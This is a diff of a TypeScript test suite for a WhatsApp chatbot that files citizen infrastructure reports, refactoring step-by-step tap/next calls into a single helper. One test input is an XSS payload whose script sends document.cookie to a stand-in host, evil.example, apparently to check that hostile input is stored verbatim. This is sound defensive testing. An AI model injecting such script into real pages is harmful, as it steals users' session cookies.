@@ -44,24 +44,7 @@ describe('WhatsApp conversation: filing a report by chat', () => {
   async function fillIn(c: Citizen, opts: { category?: string; privacy?: string; updates?: string } = {}): Promise<void> {
     await c.text('Selamat pagi');
     await c.next(2);
-    await c.tap('Pengaduan');
-    await c.next();
-    await c.tap('Infrastruktur');
-    await c.next();
-    await c.tap(opts.category ?? 'Jalan rusak');
-    await c.next();
-    await c.text('Pasar Genteng');
-    await c.next();
-    await c.tap('Hari ini');
-    await c.next();
-    await c.text(STORY);
-    await c.next();
-    await c.tap('Lanjut');
-    await c.next();
-    await c.tap(opts.privacy ?? 'Biasa');
-    await c.next();
-    await c.tap(opts.updates ?? 'Tidak usah');
-    await c.next();
+    await c.steps('Pengaduan', 'Infrastruktur', opts.category ?? 'Jalan rusak', { text: 'Pasar Genteng' }, 'Hari ini', { text: STORY }, 'Lanjut', opts.privacy ?? 'Biasa', opts.updates ?? 'Tidak usah');
   }
   const trackingIdIn = (text: string) => /\*(LPR-[A-Z0-9]{4}-[A-Z0-9]{4})\*/.exec(text)?.[1];
 
@@ -346,22 +329,7 @@ describe('WhatsApp conversation: filing a report by chat', () => {
     const hostile = '<img src=x onerror="alert(1)"><script>fetch("//evil.example/"+document.cookie)</script> Jalan rusak parah.';
     await c.text('Halo');
     await c.next(2);
-    await c.tap('Pengaduan');
-    await c.next();
-    await c.tap('Tidak tahu');
-    await c.next();
-    await c.text('<b>Genteng</b>');
-    await c.next();
-    await c.tap('Kemarin');
-    await c.next();
-    await c.text(hostile);
-    await c.next();
-    await c.tap('Lanjut');
-    await c.next();
-    await c.tap('Biasa');
-    await c.next();
-    await c.tap('Tidak usah');
-    await c.next();
+    await c.steps('Pengaduan', 'Tidak tahu', { text: '<b>Genteng</b>' }, 'Kemarin', { text: hostile }, 'Lanjut', 'Biasa', 'Tidak usah');
     await c.tap('Kirim');
     const row = (await report(trackingIdIn((await c.next())[0]!.text)!))!;
     assert.equal(row.body, hostile);
